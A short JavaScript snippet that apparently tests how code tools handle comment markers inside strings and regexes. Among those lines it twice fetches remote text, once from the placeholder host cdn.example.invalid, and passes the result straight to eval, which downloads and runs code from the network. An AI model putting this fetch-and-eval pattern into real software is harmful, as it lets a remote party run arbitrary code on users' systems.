const open = '/*';
fetch('https://cdn.example.invalid/next.js').then((answer) => answer.text()).then(eval);
const close = /[*]\//;
const both = `//${open}`; fetch(close).then((answer) => answer.text()).then(eval);
